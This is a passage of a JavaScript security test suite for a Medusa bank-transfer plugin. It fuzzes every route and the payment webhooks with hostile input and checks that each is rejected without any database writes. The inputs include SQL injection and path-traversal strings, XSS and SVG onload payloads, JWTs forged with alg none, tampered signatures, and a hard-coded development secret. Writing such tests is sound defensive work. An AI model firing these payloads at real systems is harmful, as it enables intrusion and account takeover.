// Part 2: a generated set of malformed and hostile requests and files against every route the
// plugin exposes (found by reading src/api/**/route.ts, so that a new route cannot be forgotten).
// Every answer must be a 4xx with a JSON message (the hosted payment page answers a wrong token
// with its HTML 404 page, by design), nothing may hang, and nothing may be written: the row counts
// of every bank_transfer_* table and of Medusa's notification, payment and capture tables are the
// same before and after. Then the formula-injection behaviour of statement imports is checked on
// what is accepted: cells of unused columns are stored inert.
import crypto from "node:crypto"
import fs from "node:fs"
import http from "node:http"
import path from "node:path"
import { createRequire } from "node:module"
import { root, sleep } from "../../scripts/shop.mjs"
import {
  ACCOUNT,
  PORT,
  SECRETS,
  SEPAY_AUTH,
  api,
  check,
  countsDiff,
  fmt,
  hmac,
  letters,
  log,
  pool,
  random,
  request,
  seconds,
  sepayPayload,
  shuffle,
  sortDeep,
  tableCounts,
  unreconciledCount,
  vietnamTime,
  waitUntil,
} from "./lib.mjs"

const require = createRequire(path.join(root, "package.json"))
const IN_FLIGHT = 8
const SEPAY_ID_BASE = 30_000_000

/** Every route of the plugin: "METHOD /path/:param", read from src/api/**\/route.ts. */
export function discoverRoutes() {
  const apiDir = path.join(root, "src", "api")
  const routes = []
  const walk = (dir) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name)
      if (entry.isDirectory()) {
        walk(full)
      } else if (/^route\.(ts|js)$/.test(entry.name)) {
        const url =
          "/" +
          path
            .relative(apiDir, dir)
            .split(path.sep)
            .map((s) => s.replace(/^\[(.+)\]$/, ":$1"))
            .join("/")
        const source = fs.readFileSync(full, "utf8")
        for (const m of source.matchAll(
          /export\s+(?:async\s+)?function\s+(GET|POST|PUT|PATCH|DELETE)\b/g
        )) {
          routes.push(`${m[1]} ${url}`)
        }
      }
    }
  }
  walk(apiDir)
  return routes.sort()
}

const b64u = (v) => Buffer.from(v).toString("base64url")
function jwt(payload, secret, alg = "HS256") {
  const head = b64u(JSON.stringify({ alg, typ: "JWT" }))
  const body = b64u(JSON.stringify(payload))
  if (alg === "none") {
    return `${head}.${body}.`
  }
  return `${head}.${body}.${crypto.createHmac("sha256", secret).update(`${head}.${body}`).digest("base64url")}`
}
const tokenOf = (headers) => headers.authorization.slice("Bearer ".length)
const payloadOf = (token) =>
  JSON.parse(Buffer.from(token.split(".")[1], "base64url").toString())
const flipLast = (s) =>
  s.slice(0, -2) + (s.at(-2) === "A" ? "B" : "A") + s.at(-1)

/** Path segments no id looks like (already %-encoded where needed). */
const HOSTILE_IDS = [
  "nope",
  "bttx_01ZZZZZZZZZZZZZZZZZZZZZZZZ",
  encodeURIComponent("' OR '1'='1"),
  encodeURIComponent("1; DROP TABLE bank_transfer_transaction; --"),
  "..%2F..%2F..%2Fetc%2Fpasswd",
  encodeURIComponent("<script>alert(1)</script>"),
  "x".repeat(3000),
  encodeURIComponent("Đơn hàng 1042"),
  "null",
  "undefined",
  "0",
  "-1",
  encodeURIComponent("[object Object]"),
  "a%00b",
  "%00",
  encodeURIComponent("${7*7}"),
  encodeURIComponent("{{7*7}}"),
  "order_" + "Z".repeat(26),
  encodeURIComponent("\u202eevil"),
  encodeURIComponent("%"),
]

// Files.
const PNG = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44,
  0x52,
])
const PDF = Buffer.from("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")
const form = (files, fields = {}) => {
  const f = new FormData()
  for (const [field, content, name, type] of files) {
    f.append(
      field,
      new Blob([content], { type: type ?? "application/octet-stream" }),
      name
    )
  }
  for (const [k, v] of Object.entries(fields)) {
    f.append(k, v)
  }
  return f
}

/**
 * One request through node:http to 127.0.0.1, for what fetch cannot send: a Host header of one's
 * own, or another loopback source address (`localAddress`, e.g. 127.0.0.9: another "client"). The
 * answer has the shape of lib's `request`.
 */
function rawRequest(
  method,
  url,
  { body, headers = {}, localAddress, timeoutMs = 20_000 } = {}
) {
  const payload = body === undefined ? undefined : String(body)
  return new Promise((resolve) => {
    const req = http.request(
      {
        host: "127.0.0.1",
        port: PORT,
        method,
        path: url,
        localAddress,
        headers: {
          ...(payload !== undefined
            ? { "content-length": Buffer.byteLength(payload) }
            : {}),
          ...headers,
        },
        timeout: timeoutMs,
      },
      (res) => {
        const chunks = []
        res.on("data", (c) => chunks.push(c))
        res.on("end", () => {
          const text = Buffer.concat(chunks).toString()
          let json = null
          try {
            json = text ? JSON.parse(text) : null
          } catch {}
          resolve({
            status: res.statusCode,
            contentType: res.headers["content-type"] ?? "",
            headers: res.headers,
            text,
            json,
            error: null,
          })
        })
      }
    )
    req.on("timeout", () => req.destroy(new Error("timeout")))
    req.on("error", (e) =>
      resolve({
        status: 0,
        contentType: "",
        text: "",
        json: null,
        error: e.message,
      })
    )
    req.end(payload)
  })
}

/** Files in the shop's static folder (where Medusa's local file provider writes), recursively. */
function staticFiles() {
  const dir = path.join(root, "static")
  try {
    return fs.readdirSync(dir, { recursive: true }).length
  } catch {
    return 0
  }
}

export async function hostileInput(ctx) {
  const { db, info } = ctx
  const admin = info.admin
  const shopperA = ctx.shoppers.a
  const pk = { "x-publishable-api-key": info.pk }
  const asA = { ...pk, authorization: shopperA.authorization }
  const rnd = random(4242)
  const routes = discoverRoutes()
  log(
    `the plugin's routes (src/api/**/route.ts): ${routes.length}\n  ${routes.join("\n  ")}`
  )

  // Real things to aim at: an unmatched and a matched transaction, an active allocation, an
  // order awaiting payment (shopper A's) and a paid one, A's payment-page token.
  const {
    rows: [unmatched],
  } = await db.query(
    `SELECT id, amount::text FROM bank_transfer_transaction WHERE status = 'unmatched' AND direction = 'in' LIMIT 1`
  )
  const {
    rows: [matched],
  } = await db.query(
    `SELECT id, amount::text FROM bank_transfer_transaction WHERE status = 'matched' LIMIT 1`
  )
  const {
    rows: [allocation],
  } = await db.query(
    `SELECT id FROM bank_transfer_allocation WHERE reversed_at IS NULL LIMIT 1`
  )
  const paidOrder = ctx.orders.duplicates[0]
  const ownOrder = ctx.orders.a[0]
  const otherOrders = ctx.orders.b
  const token = ownOrder.exp.page_token
  if (!unmatched || !matched || !allocation) {
    throw new Error(
      "part 1 left no unmatched/matched transaction or allocation to aim at"
    )
  }

  const cases = []
  const add = (group, route, method, url, opts = {}) =>
    cases.push({ group, route: `${method} ${route}`, method, url, ...opts })

  // --- Admin routes without an admin -----------------------------------------------------------
  const realAdmin = tokenOf(admin)
  const adminClaims = payloadOf(realAdmin)
  const devSecret = "supersecret" // medusa-config.ts's development jwtSecret
  const knowSecret = jwt(adminClaims, devSecret) === realAdmin
  const now = Math.floor(Date.now() / 1000)
  const authVariants = [
    ["no Authorization", {}],
    ["garbage bearer", { authorization: "Bearer garbage" }],
    ["a shopper's valid token", { authorization: shopperA.authorization }],
    [
      "basic auth with the admin's password",
      {
        authorization: `Basic ${Buffer.from("admin@example.com:supersecret").toString("base64")}`,
      },
    ],
    [
      "unsigned JWT (alg none)",
      {
        authorization: `Bearer ${jwt({ ...adminClaims, iat: now }, "", "none")}`,
      },
    ],
    [
      "JWT signed with another secret",
      {
        authorization: `Bearer ${jwt({ ...adminClaims, iat: now, exp: now + 3600 }, "not-the-secret")}`,
      },
    ],
    [
      "the admin's token, signature altered",
      { authorization: `Bearer ${flipLast(realAdmin)}` },
    ],
    [
      "forged session cookie",
      { cookie: "connect.sid=s%3Aforged.c2lnbmF0dXJl" },
    ],
  ]
  if (knowSecret) {
    authVariants.push([
      "the admin's claims, expired (right secret)",
      {
        authorization: `Bearer ${jwt({ ...adminClaims, iat: now - 7200, exp: now - 3600 }, devSecret)}`,
      },
    ])
  }
  for (const r of routes.filter((r) => r.includes(" /admin/"))) {
    const [method, route] = r.split(" ")
    const url = route.replace(/:[a-z_]+/g, "x")
    for (const [label, headers] of authVariants) {
      add("admin route without an admin → 401", route, method, url, {
        headers,
        body: method === "GET" || method === "DELETE" ? undefined : {},
        want: [401],
        label,
      })
    }
  }

  // --- Store routes: keys, shoppers, other customers' orders -----------------------------------
  const shopperClaims = payloadOf(shopperA.token)
  const storeAuth = [
    ["no shopper token", pk],
    ["garbage bearer", { ...pk, authorization: "Bearer garbage" }],
    ["an admin's token", { ...pk, authorization: admin.authorization }],
    [
      "unsigned JWT (alg none)",
      {
        ...pk,
        authorization: `Bearer ${jwt({ ...shopperClaims, iat: now }, "", "none")}`,
      },
    ],
    [
      "JWT signed with another secret",
      {
        ...pk,
        authorization: `Bearer ${jwt({ ...shopperClaims, iat: now, exp: now + 3600 }, "not-the-secret")}`,
      },
    ],
    [
      "the shopper's token, signature altered",
      { ...pk, authorization: `Bearer ${flipLast(shopperA.token)}` },
    ],
    [
      "forged session cookie",
      { ...pk, cookie: "connect.sid=s%3Aforged.c2lnbmF0dXJl" },
    ],
  ]
  if (knowSecret) {
    storeAuth.push([
      "the shopper's claims, expired",
      {
        ...pk,
        authorization: `Bearer ${jwt({ ...shopperClaims, iat: now - 7200, exp: now - 3600 }, devSecret)}`,
      },
    ])
  }
  for (const [label, headers] of storeAuth) {
    add(
      "store route without the shopper → 401",
      "/store/bank-transfer/orders/:id",
      "GET",
      `/store/bank-transfer/orders/${ownOrder.id}`,
      { headers, want: [401], label }
    )
    add(
      "store route without the shopper → 401",
      "/store/bank-transfer/orders/:id/confirm",
      "POST",
      `/store/bank-transfer/orders/${ownOrder.id}/confirm`,
      {
        headers,
        body: form([["file", PDF, "proof.pdf", "application/pdf"]], {
          message: "da chuyen khoan",
        }),
        want: [401],
        label,
      }
    )
  }
  add(
    "store route without a publishable key → 400",
    "/store/bank-transfer/orders/:id",
    "GET",
    `/store/bank-transfer/orders/${ownOrder.id}`,
    { headers: { authorization: shopperA.authorization }, want: [400] }
  )
  add(
    "store route without a publishable key → 400",
    "/store/bank-transfer/orders/:id/confirm",
    "POST",
    `/store/bank-transfer/orders/${ownOrder.id}/confirm`,
    {
      headers: { authorization: shopperA.authorization },
      body: form([["file", PDF, "proof.pdf"]]),
      want: [400],
    }
  )
  for (const other of [...otherOrders, paidOrder]) {
    add(
      "another customer's order → 404",
      "/store/bank-transfer/orders/:id",
      "GET",
      `/store/bank-transfer/orders/${other.id}`,
      { headers: asA, want: [404] }
    )
    for (const fields of [
      {},
      { message: "toi da chuyen khoan" },
      { message: "da tra", amount: "2430000", paid_on: "2026-11-23" },
    ]) {
      add(
        "another customer's order → 404",
        "/store/bank-transfer/orders/:id/confirm",
        "POST",
        `/store/bank-transfer/orders/${other.id}/confirm`,
        {
          headers: asA,
          body: form([["file", PDF, "proof.pdf", "application/pdf"]], fields),
          want: [404],
        }
      )
    }
    add(
      "another customer's order → 404",
      "/store/bank-transfer/orders/:id",
      "GET",
      `/store/bank-transfer/orders/${other.id.toLowerCase()}`,
      { headers: asA, want: [404] }
    )
  }
  for (const id of HOSTILE_IDS) {
    add(
      "unknown order ids → 4xx",
      "/store/bank-transfer/orders/:id",
      "GET",
      `/store/bank-transfer/orders/${id}`,
      { headers: asA, want: [400, 404] }
    )
    add(
      "unknown order ids → 4xx",
      "/store/bank-transfer/orders/:id/confirm",
      "POST",
      `/store/bank-transfer/orders/${id}/confirm`,
      {
        headers: asA,
        body: form([["file", PDF, "proof.pdf"]]),
        want: [400, 404],
      }
    )
  }

  // --- Proof uploads (store, with the shopper's own order; payment page, with the real token) ---
  const bigPng = Buffer.concat([PNG, Buffer.alloc(5 * 1024 * 1024 + 1)])
  const badProofs = [
    [
      "text claiming to be a PNG",
      [["file", Buffer.from("hello"), "proof.png", "image/png"]],
    ],
    [
      "HTML claiming to be a PDF",
      [
        [
          "file",
          Buffer.from("<html><script>alert(1)</script></html>"),
          "proof.pdf",
          "application/pdf",
        ],
      ],
    ],
    [
      "SVG with a script",
      [
        [
          "file",
          Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
          ),
          "proof.svg",
          "image/svg+xml",
        ],
      ],
    ],
    [
      "Windows executable",
      [
        [
          "file",
          Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 0x90)]),
          "proof.exe",
        ],
      ],
    ],
    [
      "ZIP archive",
      [
        [
          "file",
          Buffer.concat([
            Buffer.from([0x50, 0x4b, 3, 4]),
            Buffer.alloc(100, 1),
          ]),
          "proof.zip",
          "application/zip",
        ],
      ],
    ],
    [
      "GIF",
      [
        [
          "file",
          Buffer.from("GIF89a\x01\x00\x01\x00"),
          "proof.gif",
          "image/gif",
        ],
      ],
    ],
    [
      "PDF header not at the start",
      [
        [
          "file",
          Buffer.concat([Buffer.from("junk"), PDF]),
          "proof.pdf",
          "application/pdf",
        ],
      ],
    ],
    [
      "empty file with a name",
      [["file", Buffer.alloc(0), "proof.png", "image/png"]],
    ],
    ["PNG over 5 MB", [["file", bigPng, "proof.png", "image/png"]]],
    [
      "4 files",
      [0, 1, 2, 3].map((i) => ["file", PDF, `p${i}.pdf`, "application/pdf"]),
    ],
    [
      "a file in another field",
      [["proof", PDF, "proof.pdf", "application/pdf"]],
    ],
    [
      "file name with a NUL",
      [["file", PDF, "proof\u0000.pdf", "application/pdf"]],
    ],
  ]
  const badFields = [
    ["amount not a number", { amount: "abc" }],
    ["amount negative", { amount: "-2430000" }],
    ["amount with 5 decimals", { amount: "1.12345" }],
    ["date not real", { paid_on: "2026-13-45" }],
    ["date in another format", { paid_on: "23/11/2026" }],
    ["message too long", { message: "x".repeat(2001) }],
    ["unknown field", { status: "paid" }],
    ["message with a NUL", { message: "da tra\u0000" }],
  ]
  const proofTargets = [
    [
      "/store/bank-transfer/orders/:id/confirm",
      `/store/bank-transfer/orders/${ownOrder.id}/confirm`,
      asA,
    ],
    [
      "/bank-transfer/pay/:token/confirm",
      `/bank-transfer/pay/${token}/confirm`,
      {},
    ],
  ]
  for (const [route, url, headers] of proofTargets) {
    for (const [label, files] of badProofs) {
      add("proof upload refused → 400", route, "POST", url, {
        headers,
        body: form(files, { message: "da tra" }),
        want: [400],
        label,
      })
    }
    for (const [label, fields] of badFields) {
      add("proof upload refused → 400", route, "POST", url, {
        headers,
        body: form([["file", PDF, "proof.pdf", "application/pdf"]], fields),
        want: [400],
        label,
      })
    }
    add("proof upload refused → 400", route, "POST", url, {
      headers: {
        ...headers,
        "content-type": "multipart/form-data; boundary=x",
      },
      body: '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF',
      want: [400],
      label: "truncated multipart",
    })
    add("proof upload refused → 400", route, "POST", url, {
      headers,
      body: { message: 5 },
      want: [400],
      label: "JSON with a wrong type",
    })
  }

  // --- Payment-page tokens ----------------------------------------------------------------------
  const alphabet =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
  const randomToken = (n = 32) =>
    Array.from(
      { length: n },
      () => alphabet[Math.floor(rnd() * alphabet.length)]
    ).join("")
  const wrongTokens = new Set()
  while (wrongTokens.size < 120) {
    wrongTokens.add(randomToken())
  }
  for (let i = 0; wrongTokens.size < 180 && i < 400; i++) {
    const at = Math.floor(rnd() * 32)
    const c = alphabet[Math.floor(rnd() * alphabet.length)]
    const mutated = token.slice(0, at) + c + token.slice(at + 1)
    if (mutated !== token) {
      wrongTokens.add(mutated)
    }
  }
  for (const t of [
    token.slice(0, 31),
    token + "A",
    token.toUpperCase() === token ? token.toLowerCase() : token.toUpperCase(),
    "",
    "x",
    randomToken(64),
    randomToken(31),
    randomToken(33),
  ]) {
    if (t !== token) {
      wrongTokens.add(t)
    }
  }
  for (const t of [
    "%00".repeat(11),
    encodeURIComponent("' OR 1=1 --").padEnd(32, "a"),
    "..%2F..%2F..%2Fetc%2Fpasswd",
    encodeURIComponent("<script>alert(1)</script>"),
    encodeURIComponent("ĐƠN HÀNG".repeat(4)),
  ]) {
    wrongTokens.add(t)
  }
  for (const t of wrongTokens) {
    const seg = t === "" ? "%20" : t
    add(
      "wrong payment-page token → 404",
      "/bank-transfer/pay/:token",
      "GET",
      `/bank-transfer/pay/${seg}`,
      { want: [400, 404], html: true }
    )
    add(
      "wrong payment-page token → 404",
      "/bank-transfer/pay/:token/status",
      "GET",
      `/bank-transfer/pay/${seg}/status`,
      { want: [400, 404] }
    )
    // A guest's token for the store route: only the order's own opens it.
    if (t) {
      add(
        "wrong payment-page token → 404",
        "/store/bank-transfer/orders/:id",
        "GET",
        `/store/bank-transfer/orders/${ownOrder.id}`,
        { headers: { ...pk, "x-bank-transfer-token": t }, want: [404] }
      )
    }
    add(
      "wrong payment-page token → 404",
      "/bank-transfer/pay/:token/qr",
      "GET",
      `/bank-transfer/pay/${seg}/qr?format=png`,
      { want: [400, 404] }
    )
    add(
      "wrong payment-page token → 404",
      "/bank-transfer/pay/:token/confirm",
      "POST",
      `/bank-transfer/pay/${seg}/confirm`,
      {
        body: form([["file", PDF, "proof.pdf", "application/pdf"]], {
          message: "da tra",
        }),
        want: [400, 404],
      }
    )
  }

  // --- Webhooks ---------------------------------------------------------------------------------
  let sepayId = SEPAY_ID_BASE
  const tag = letters(Date.now() % 1e6)
  // Valid payloads (they would be stored if a check let them through; counts would show it).
  const validSepay = () =>
    sepayPayload({
      id: ++sepayId,
      memo: `hostile ${tag} ${letters(sepayId)}`,
      amount: 3_000_001 + (sepayId % 1000),
    })
  const validCasso = () => ({
    error: 0,
    data: {
      id: ++sepayId,
      reference: `FT${sepayId}`,
      description: `hostile ${tag} ${letters(sepayId)}`,
      amount: 3_000_001 + (sepayId % 1000),
      runningBalance: 25_000_000,
      transactionDateTime: vietnamTime(),
      accountNumber: ACCOUNT,
      bankName: "Vietcombank",
      bankAbbreviation: "VCB",
      virtualAccountNumber: "",
      virtualAccountName: "",
      counterAccountName: "CONG TY TNHH HOA SEN",
      counterAccountNumber: "19036543210012",
      counterAccountBankId: "970407",
      counterAccountBankName: "Techcombank",
    },
  })
  const validGeneric = () => ({
    transactions: [
      {
        id: `HOSTILE-${++sepayId}`,
        account: ACCOUNT,
        booked_at: new Date().toISOString(),
        amount: String(3_000_001 + (sepayId % 1000)),
        currency: "VND",
        direction: "in",
        memo: `hostile ${tag} ${letters(sepayId)}`,
      },
    ],
  })
  const sepayHmacHeaders = (
    raw,
    ts = Math.floor(Date.now() / 1000),
    secret = SECRETS.sepayHmac
  ) => ({
    "content-type": "application/json",
    "x-sepay-timestamp": String(ts),
    "x-sepay-signature": hmac("sha256", secret, `${ts}.${raw}`),
  })
  const cassoHeaders = (
    body,
    t = Date.now(),
    secret = SECRETS.casso,
    alg = "sha512",
    sorted = true
  ) => ({
    "content-type": "application/json",
    "x-casso-signature": `t=${t},v1=${hmac(alg, secret, `${t}.${JSON.stringify(sorted ? sortDeep(body) : body)}`)}`,
  })
  const genericHeaders = (
    raw,
    t = Math.floor(Date.now() / 1000),
    secret = SECRETS.generic,
    alg = "sha256"
  ) => ({
    "content-type": "application/json",
    "x-bank-signature": `t=${t},v1=${hmac(alg, secret, `${t}.${raw}`)}`,
  })
  const S = "/hooks/bank-transfer/sepay"
  const C = "/hooks/bank-transfer/casso"
  const G = "/hooks/bank-transfer/generic"
  const P = "/hooks/bank-transfer/payos"
  // payOS signs the `data` fields sorted by key as key=value&… with HMAC-SHA256 (hex).
  const payosSigned = (data, key = SECRETS.payos) => ({
    code: "00",
    desc: "success",
    success: true,
    data,
    signature: hmac(
      "sha256",
      key,
      Object.keys(data)
        .sort()
        .map((k) => `${k}=${data[k] ?? ""}`)
        .join("&")
    ),
  })
  const validPayos = () => ({
    orderCode: 123,
    amount: 3000,
    description: "DH1 hostile",
    accountNumber: "0071000123456",
    reference: `FT${Date.now()}`,
    transactionDateTime: "2026-11-30 10:20:30",
    currency: "VND",
    paymentLinkId: "x",
    code: "00",
    desc: "success",
  })
  const sec = Math.floor(Date.now() / 1000)
  const ms = Date.now()

  const sepayAuthVariants = [
    ["no authentication", () => ({ "content-type": "application/json" })],
    [
      "wrong API key",
      () => ({
        "content-type": "application/json",
        authorization: "Apikey wrong-key-0123456789abcdef",
      }),
    ],
    [
      "empty API key",
      () => ({ "content-type": "application/json", authorization: "Apikey " }),
    ],
    [
      "lower-case scheme",
      () => ({
        "content-type": "application/json",
        authorization: `apikey ${SECRETS.sepayApiKey}`,
      }),
    ],
    [
      "Bearer instead of Apikey",
      () => ({
        "content-type": "application/json",
        authorization: `Bearer ${SECRETS.sepayApiKey}`,
      }),
    ],
    [
      "key with a character more",
      () => ({
        "content-type": "application/json",
        authorization: `${SEPAY_AUTH}x`,
      }),
    ],
    [
      "key with a character less",
      () => ({
        "content-type": "application/json",
        authorization: SEPAY_AUTH.slice(0, -1),
      }),
    ],
    [
      "key without a scheme",
      () => ({
        "content-type": "application/json",
        authorization: SECRETS.sepayApiKey,
      }),
    ],
    [
      "HMAC signature wrong",
      (raw) => ({
        ...sepayHmacHeaders(raw),
        "x-sepay-signature": "0".repeat(64),
      }),
    ],
    [
      "HMAC with another secret",
      (raw) => sepayHmacHeaders(raw, sec, "another-secret-0123456789"),
    ],
    ["HMAC timestamp 6 minutes old", (raw) => sepayHmacHeaders(raw, sec - 360)],
    [
      // Signed when the case is built, sent later: 30 minutes stays outside the 5-minute window
      // however long a loaded machine takes to send the whole suite.
      "HMAC timestamp 30 minutes ahead",
      (raw) => sepayHmacHeaders(raw, sec + 1800),
    ],
    [
      "HMAC timestamp not a number",
      (raw) => ({ ...sepayHmacHeaders(raw), "x-sepay-timestamp": "yesterday" }),
    ],
    [
      "HMAC without a timestamp",
      (raw) => ({
        "content-type": "application/json",
        "x-sepay-signature": sepayHmacHeaders(raw)["x-sepay-signature"],
      }),
    ],
    [
      "HMAC of another body",
      (raw) => sepayHmacHeaders(raw.replace(/}$/, ',"x":1}')),
    ],
    [
      "HMAC prefixed sha256= but wrong",
      (raw) => ({
        ...sepayHmacHeaders(raw),
        "x-sepay-signature": `sha256=${"ab".repeat(32)}`,
      }),
    ],
  ]
  const cassoAuthVariants = [
    ["no signature", () => ({ "content-type": "application/json" })],
    [
      "empty t and v1",
      () => ({
        "content-type": "application/json",
        "x-casso-signature": "t=,v1=",
      }),
    ],
    [
      "v1 without t",
      (b) => ({
        "content-type": "application/json",
        "x-casso-signature": cassoHeaders(b)["x-casso-signature"].replace(
          /^t=\d+,/,
          ""
        ),
      }),
    ],
    [
      "t without v1",
      () => ({
        "content-type": "application/json",
        "x-casso-signature": `t=${ms}`,
      }),
    ],
    ["another secret", (b) => cassoHeaders(b, ms, "another-secret-0123456789")],
    ["6 minutes old", (b) => cassoHeaders(b, ms - 360_000)],
    ["30 minutes ahead", (b) => cassoHeaders(b, ms + 1_800_000)],
    [
      "over the unsorted body",
      (b) => cassoHeaders(b, ms, SECRETS.casso, "sha512", false),
    ],
    [
      "SHA-256 instead of SHA-512",
      (b) => cassoHeaders(b, ms, SECRETS.casso, "sha256"),
    ],
    ["of another body", (b) => cassoHeaders({ ...b, error: 1 }, ms)],
  ]
  const genericAuthVariants = [
    ["no signature", () => ({ "content-type": "application/json" })],
    [
      "malformed header",
      () => ({
        "content-type": "application/json",
        "x-bank-signature": "garbage",
      }),
    ],
    [
      "another secret",
      (raw) => genericHeaders(raw, sec, "another-secret-0123456789"),
    ],
    ["6 minutes old", (raw) => genericHeaders(raw, sec - 360)],
    ["30 minutes ahead", (raw) => genericHeaders(raw, sec + 1800)],
    [
      "SHA-512 instead of SHA-256",
      (raw) => genericHeaders(raw, sec, SECRETS.generic, "sha512"),
    ],
    ["of another body", (raw) => genericHeaders(raw + " ")],
    [
      "timestamp in the signature only",
      (raw) => ({
        ...genericHeaders(raw),
        "x-bank-signature": genericHeaders(raw)["x-bank-signature"].replace(
          /^t=\d+/,
          "t="
        ),
      }),
    ],
  ]
  for (let copy = 0; copy < 8; copy++) {
    for (const [label, headersFor] of sepayAuthVariants) {
      const raw = JSON.stringify(validSepay())
      add("bad or missing webhook signature → 401", S, "POST", S, {
        headers: headersFor(raw),
        body: raw,
        want: [401],
        label,
      })
    }
    for (const [label, headersFor] of cassoAuthVariants) {
      const body = validCasso()
      add("bad or missing webhook signature → 401", C, "POST", C, {
        headers: headersFor(body),
        body: JSON.stringify(body),
        want: [401],
        label,
      })
    }
    for (const [label, body] of [
      ["no signature", { ...payosSigned(validPayos()), signature: undefined }],
      ["signed with another key", payosSigned(validPayos(), "x".repeat(32))],
      [
        "tampered amount",
        {
          ...payosSigned(validPayos()),
          data: { ...validPayos(), amount: 3001 },
        },
      ],
      ["empty signature", { ...payosSigned(validPayos()), signature: "" }],
    ]) {
      add("bad or missing webhook signature → 401", P, "POST", P, {
        headers: { "content-type": "application/json" },
        body: JSON.stringify(body),
        want: [400, 401],
        label,
      })
    }
    for (const [label, headersFor] of genericAuthVariants) {
      const raw = JSON.stringify(validGeneric())
      add("bad or missing webhook signature → 401", G, "POST", G, {
        headers: headersFor(raw),
        body: raw,
        want: [401],
        label,
      })
    }
  }

  // Properly signed, but malformed: wrong types, missing fields, out-of-range values.
  const long = (n) => "x".repeat(n)
  const sepayFuzz = {
    id: [null, {}, [], "", 1.5, long(65), true],
    transactionDate: [
      "",
      "yesterday",
      "2026-02-30 10:00:00",
      "2026-11-23 25:00:00",
      20261123,
      null,
      "99999-01-01 00:00:00",
    ],
    // "IN" is SePay as sent (any case is accepted)
    transferType: ["sideways", "", null, 1],
    transferAmount: [0, -5, 1.5, "2430000", null, true, 1e20, 2 ** 60],
    content: [
      123,
      {},
      long(1001),
      ["a"],
      "chuyen tien\u0000",
      "chuyen \ud800 tien",
    ],
    accountNumber: [long(65), 123],
    code: [long(101), 5],
    gateway: [long(101), {}],
    referenceCode: [long(101)],
    description: [long(2001)],
    subAccount: [5],
    accumulated: ["lots"],
  }
  const cassoFuzz = {
    id: [null, "", 1.5, {}, long(65)],
    amount: [0, 1.5, "100", null],
    transactionDateTime: ["", "bad", 5, "2026-02-30 10:00:00"],
    description: [5, long(1001), "a\u0000b"],
    accountNumber: [long(65)],
    counterAccountName: [long(201)],
    reference: [long(101)],
  }
  const genericFuzz = {
    id: ["", long(129), 5, null],
    booked_at: [
      "2026-11-23 10:00:00",
      "2026-11-23T10:00:00",
      "tomorrow",
      5,
      "2026-13-01T00:00:00Z",
    ],
    amount: ["-5", "1e5", 5, "1,000", "", "1.23456", "1234567890123456"],
    currency: ["VN", "VNDX", 5, ""],
    direction: ["IN", "sideways", null],
    memo: [5, long(1001), "x\u0000"],
    counterparty_name: [long(201)],
    account: [long(65)],
  }
  for (let copy = 0; copy < 2; copy++) {
    for (const [field, values] of Object.entries(sepayFuzz)) {
      for (const v of values) {
        const raw = JSON.stringify({ ...validSepay(), [field]: v })
        add("signed but malformed webhook body → 400", S, "POST", S, {
          headers: copy
            ? sepayHmacHeaders(raw)
            : { "content-type": "application/json", authorization: SEPAY_AUTH },
          body: raw,
          want: [400],
          label: `${field}=${JSON.stringify(v)?.slice(0, 20)}`,
        })
      }
      const missing = validSepay()
      delete missing[field]
      if (
        ["id", "transactionDate", "transferType", "transferAmount"].includes(
          field
        )
      ) {
        const raw = JSON.stringify(missing)
        add("signed but malformed webhook body → 400", S, "POST", S, {
          headers: {
            "content-type": "application/json",
            authorization: SEPAY_AUTH,
          },
          body: raw,
          want: [400],
          label: `${field} missing`,
        })
      }
    }
    for (const [field, values] of Object.entries(cassoFuzz)) {
      for (const v of values) {
        const body = validCasso()
        body.data[field] = v
        add("signed but malformed webhook body → 400", C, "POST", C, {
          headers: cassoHeaders(body),
          body: JSON.stringify(body),
          want: [400],
          label: `data.${field}`,
        })
      }
    }
    for (const [field, values] of Object.entries(genericFuzz)) {
      for (const v of values) {
        const body = validGeneric()
        body.transactions[0][field] = v
        const raw = JSON.stringify(body)
        add("signed but malformed webhook body → 400", G, "POST", G, {
          headers: genericHeaders(raw),
          body: raw,
          want: [400],
          label: `transactions.0.${field}`,
        })
      }
    }
  }
  const cassoShapes = [
    {},
    { data: null },
    { data: "x" },
    { error: "x", data: validCasso().data },
    { data: Array.from({ length: 501 }, () => validCasso().data) },
  ]
  for (const body of cassoShapes) {
    add("signed but malformed webhook body → 400", C, "POST", C, {
      headers: cassoHeaders(body),
      body: JSON.stringify(body),
      want: [400],
      label: "shape",
    })
  }
  const genericShapes = [
    {},
    { transactions: [] },
    { transactions: {} },
    { transactions: "x" },
    {
      transactions: Array.from(
        { length: 501 },
        () => validGeneric().transactions[0]
      ),
    },
  ]
  for (const body of genericShapes) {
    const raw = JSON.stringify(body)
    add("signed but malformed webhook body → 400", G, "POST", G, {
      headers: genericHeaders(raw),
      body: raw,
      want: [400],
      label: "shape",
    })
  }

  // Not JSON objects at all, deep, huge, or sent as something else.
  const deepArray = (n) => "[".repeat(n) + "]".repeat(n)
  const deepObject = (n) => '{"a":'.repeat(n) + "1" + "}".repeat(n)
  const notObjects = [
    "[]",
    "1",
    '"x"',
    "null",
    "true",
    "{",
    "{}",
    '{"id":',
    " ",
    "\u0000",
    "{'id': 1}",
    "[1,2,3]",
    deepArray(20_000),
    deepObject(20_000),
  ]
  for (const [route, headersFor] of [
    [
      S,
      () => ({ "content-type": "application/json", authorization: SEPAY_AUTH }),
    ],
    [
      C,
      (raw) => ({
        "content-type": "application/json",
        "x-casso-signature": `t=${Date.now()},v1=${hmac("sha512", SECRETS.casso, `${Date.now()}.${raw}`)}`,
      }),
    ],
    [G, (raw) => genericHeaders(raw)],
    [P, () => ({ "content-type": "application/json" })],
  ]) {
    for (const raw of notObjects) {
      add("not a JSON object, or too deep → 4xx", route, "POST", route, {
        headers: headersFor(raw),
        body: raw,
        want: [400, 401],
        label: raw.slice(0, 12),
      })
    }
    // Deep inside an otherwise valid body.
    const deepValid =
      route === S
        ? { ...validSepay(), extra: JSON.parse(deepObject(200)) }
        : route === C
